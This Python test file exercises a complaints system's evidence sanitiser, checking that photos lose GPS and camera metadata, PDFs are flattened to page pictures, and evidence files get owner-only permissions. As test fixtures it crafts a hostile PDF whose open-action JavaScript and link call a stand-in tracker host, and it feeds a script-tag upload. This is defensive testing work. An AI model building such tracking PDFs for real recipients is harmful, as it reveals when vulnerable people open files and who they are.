"""Evidence files: the original kept encrypted for the committee; a safe copy
(photos re-encoded, PDFs flattened to page pictures and rebuilt) is all that
can leave it. The hostile files are crafted here, with real libraries."""

import io
import subprocess

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from imvo.complaints import crypto, evidence
from imvo.complaints.models import Complaint
from imvo.complaints.services import workflow
from imvo.complaints.services.access import CaseNotFoundError
from imvo.complaints.tests.helpers import admit, file, jpeg_with_exif
from imvo.core.testing import pdf_showing_photo

GPS_LATITUDE = (23.0, 48.0, 36.0)  # Dhaka
PHONE = b"SecretPhoneMaker"


def jpeg_with_gps() -> bytes:
    """A real JPEG as a phone writes it: maker, model and a GPS position in EXIF."""
    img = Image.new("RGB", (120, 90), (200, 10, 10))
    exif = Image.Exif()
    exif[0x010F] = PHONE.decode()  # Make
    exif[0x0110] = "Model-X"  # Model
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", GPS_LATITUDE, "E", (90.0, 24.0, 0.0)
    buf = io.BytesIO()
    img.save(buf, format="JPEG", exif=exif)
    return buf.getvalue()


def hostile_pdf() -> bytes:
    """A PDF that carries the GPS photo as it is (DCT stream, EXIF inside), runs
    JavaScript on opening, links to a tracker, embeds a file naming the
    complainant and names her as author."""
    pdf = pdf_showing_photo(jpeg_with_gps(), 120, 90)
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 100, 100]),
        A=Dictionary(S=Name.URI, URI=String("https://tracker.example/amina")),
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([link]))
    pdf.Root.OpenAction = Dictionary(
        S=Name.JavaScript, JS=String("app.launchURL('https://tracker.example/opened');")
    )
    pdf.attachments["contacts.txt"] = pikepdf.AttachedFileSpec(
        pdf, b"Amina Begum +8801711", mime_type="text/plain"
    )
    pdf.docinfo["/Author"] = "Amina Begum"
    out = io.BytesIO()
    pdf.save(out)
    data = out.getvalue()
    assert PHONE in data and b"/JavaScript" in data and b"/EmbeddedFile" in data
    return data


def test_photo_safe_copy_has_no_gps_or_camera_and_original_is_kept_for_the_committee(world):
    photo = jpeg_with_gps()
    assert Image.open(io.BytesIO(photo)).getexif().get_ifd(0x8825)[2] == GPS_LATITUDE
    c = file(world, files=[("photo.pdf", photo)]).complaint
    ev = c.evidence.get()
    assert (ev.content_type, ev.original_type) == ("image/jpeg", "image/jpeg")  # by content
    for stored in ev.stored_files():  # encrypted at rest, both of them
        raw = (evidence.evidence_dir() / stored).read_bytes()
        assert not raw.startswith(b"\xff\xd8") and PHONE not in raw
    _ev, safe = workflow.evidence_for(world.committee_x, c, "committee", ev.pk)
    with Image.open(io.BytesIO(safe)) as img:
        assert len(img.getexif()) == 0 and not img.getexif().get_ifd(0x8825)
        assert img.size == (120, 90)
    assert PHONE not in safe and b"Exif" not in safe
    _ev, original = workflow.evidence_for(world.committee_x, c, "committee", ev.pk, original=True)
    assert original == photo
    assert ev.original_name == "photo.pdf"


def _shared_with_company(world, c):
    c = admit(world.committee_x, c)
    ids = list(c.evidence.values_list("pk", flat=True))
    workflow.check_share_with_company(world.committee_x, c, "A worker sent this.", ids)
    return c


def test_hostile_pdf_reaches_the_company_as_pictures_only(world, tmp_path):
    original = hostile_pdf()
    c = file(world, respondent=world.company_a, files=[("slip.pdf", original)]).complaint
    c = _shared_with_company(world, c)
    ev = c.evidence.get()
    assert ev.content_type == "application/pdf" and ev.shared_with_company
    _ev, data = workflow.shared_file_for(world.member_a, c, "company", 1)
    for needle in (
        PHONE,
        b"Exif",
        b"tracker.example",
        b"/JavaScript",
        b"/JS",
        b"/OpenAction",
        b"/URI",
        b"/Annots",
        b"/EmbeddedFile",
        b"/AcroForm",
        b"/Metadata",
        b"Amina",
    ):
        assert needle not in data, needle
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert "/Info" not in pdf.trailer and "/Names" not in pdf.Root
        assert len(pdf.pages) == 1
        images = list(pdf.pages[0].get_images().values())  # nested ones too
        assert len(images) == 1
        picture = pikepdf.PdfImage(images[0]).as_pil_image()  # type: ignore[arg-type]
        assert len(picture.getexif()) == 0
    # What the page showed is still there: the photo's red fills the page picture.
    page = picture.convert("RGB").resize((1, 1)).getpixel((0, 0))
    assert isinstance(page, tuple)
    assert page[0] > 150 and page[1] < 60 and page[2] < 60
    # The company cannot ask for the original (nor for any file by its id: T31).
    with pytest.raises(CaseNotFoundError):
        workflow.evidence_for(world.member_a, c, "company", ev.pk, original=True)
    _ev, kept = workflow.evidence_for(world.committee_x, c, "committee", ev.pk, original=True)
    assert kept == original


def test_flattened_pdf_keeps_what_can_be_read(world, tmp_path):
    from weasyprint import HTML

    html = (
        "<html><head><title>Loonstrook Amina Begum</title>"
        '<meta name="author" content="Amina Begum"></head>'
        "<body><h1>WAGE SLIP MARCH</h1><p>4,200 taka withheld</p></body></html>"
    )
    c = file(world, files=[("slip.pdf", HTML(string=html).write_pdf())]).complaint
    _ev, data = workflow.evidence_for(world.committee_x, c, "committee", c.evidence.get().pk)
    assert b"Amina" not in data and b"WeasyPrint" not in data
    path = tmp_path / "safe.pdf"
    path.write_bytes(data)
    text = subprocess.run(
        ["pdftotext", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert text.strip() == ""  # no text layer left: only pictures of the pages
    import pypdfium2 as pdfium

    bitmap = pdfium.PdfDocument(data)[0].render(scale=1).to_pil().convert("L")
    assert bitmap.getextrema()[0] < 80  # dark ink of the heading is on the page


@pytest.mark.parametrize(
    ("name", "data", "code", "kept"),
    [
        ("photo.jpg", b"<script>alert(1)</script>", "not_supported", True),
        ("broken.png", b"\x89PNG\r\n\x1a\n" + b"junk" * 10, "damaged_image", True),
        ("broken.pdf", b"%PDF-1.7\n" + b"not really a pdf " * 20, "unreadable", True),
        ("empty.pdf", b"", None, False),
    ],
)
def test_bad_evidence_is_refused_with_reason_and_the_complaint_stands(
    world, name, data, code, kept
):
    filed = file(world, files=[(name, data)])
    assert Complaint.objects.get() == filed.complaint
    assert len(filed.refused) == 1 and name in filed.refused[0]
    evs = list(filed.complaint.evidence.all())
    if kept:
        assert [(e.refusal, e.safe_name) for e in evs] == [(code, "")]
        stored = (evidence.evidence_dir() / evs[0].stored_name).read_bytes()
        assert crypto.decrypt_bytes(stored) == data  # nothing the complainant sent is lost
    else:
        assert evs == []


def test_locked_pdf_gets_no_safe_copy_and_cannot_be_shared(world):
    from weasyprint import HTML

    locked = io.BytesIO()
    with pikepdf.open(io.BytesIO(HTML(string="<p>wages</p>").write_pdf())) as pdf:
        pdf.save(locked, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    filed = file(world, respondent=world.company_a, files=[("locked.pdf", locked.getvalue())])
    assert "could not be read as a PDF" in filed.refused[0]
    c = _shared_with_company(world, filed.complaint)
    ev = c.evidence.get()
    assert not ev.shared_with_company
    with pytest.raises(CaseNotFoundError):
        workflow.shared_file_for(world.member_a, c, "company", 1)


def test_old_photo_helper_still_loses_its_exif(world):
    c = file(world, files=[("a.jpg", jpeg_with_exif())]).complaint
    _ev, data = workflow.evidence_for(world.committee_x, c, "committee", c.evidence.get().pk)
    assert b"GPS-Tracker-App" not in data and PHONE not in data


def test_photo_comment_xmp_and_icc_text_do_not_survive_the_safe_copy(world):
    """Found by the audit: Pillow writes a JPEG's comment (COM marker) back when the
    photo is re-encoded, and a PNG's ICC profile; both are free text a phone app or
    a helper can fill with a name. XMP (which can hold the GPS position too) and
    PNG text chunks are checked with them."""
    from PIL.PngImagePlugin import PngInfo

    img = Image.new("RGB", (64, 48), (200, 10, 10))
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/'
        b'02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/"'
        b' exif:GPSLatitude="23,48.6N">SecretXmpCreator</rdf:Description></rdf:RDF>'
        b"</x:xmpmeta>"
    )
    jpeg, png = io.BytesIO(), io.BytesIO()
    img.save(jpeg, "JPEG", comment=b"SecretComment: Maria, line 4", xmp=xmp)
    text = PngInfo()
    text.add_text("Author", "SecretPngAuthor")
    icc = b"\0" * 128 + b"desc SecretIccOwner"  # (compressed in the file: read back below)
    img.save(png, "PNG", pnginfo=text, icc_profile=icc)
    assert b"SecretComment" in jpeg.getvalue()
    assert b"SecretIccOwner" in Image.open(io.BytesIO(png.getvalue())).info["icc_profile"]
    c = file(world, files=[("a.jpg", jpeg.getvalue()), ("b.png", png.getvalue())]).complaint
    for ev in c.evidence.order_by("pk"):
        _ev, safe = workflow.evidence_for(world.committee_x, c, "committee", ev.pk)
        for secret in (b"SecretComment", b"SecretXmpCreator", b"23,48", b"SecretPngAuthor"):
            assert secret not in safe
        with Image.open(io.BytesIO(safe)) as clean:
            assert not {"comment", "xmp", "icc_profile", "exif"} & set(clean.info)
            assert clean.size == (64, 48)


@pytest.mark.parametrize("umask", [0o000, 0o022, 0o277])
def test_evidence_files_and_folders_are_the_owners_alone_whatever_the_umask(
    world, settings, tmp_path, umask
):
    """Encrypted is not enough: a 0644 file in a 0755 folder let every account on
    the machine copy the evidence. Folders 0700, files 0600, with a umask that
    would open them (0) and one that would shut the owner out (0277)."""
    import os
    import stat

    settings.VAR_DIR = tmp_path / "var"
    old = os.umask(umask)
    try:
        filed = file(world, files=[("photo.jpg", jpeg_with_exif())])
    finally:
        os.umask(old)
    ev = filed.complaint.evidence.get()
    folder = evidence.evidence_dir()
    assert folder == (tmp_path / "var" / "complaints" / "evidence").resolve()
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE(folder.parent.stat().st_mode) == 0o700  # made by it
    stored = [folder / ev.stored_name, folder / ev.safe_name]
    assert {stat.S_IMODE(p.stat().st_mode) for p in stored} == {0o600}
    assert evidence.read_evidence(ev)[:2] == b"\xff\xd8"  # and still readable


def test_an_evidence_folder_made_before_is_closed_at_its_next_use(world, settings, tmp_path):
    import stat

    settings.VAR_DIR = tmp_path / "var"
    folder = tmp_path / "var" / "complaints" / "evidence"
    folder.mkdir(parents=True, mode=0o755)
    folder.chmod(0o755)
    file(world, files=[("photo.jpg", jpeg_with_exif())])
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
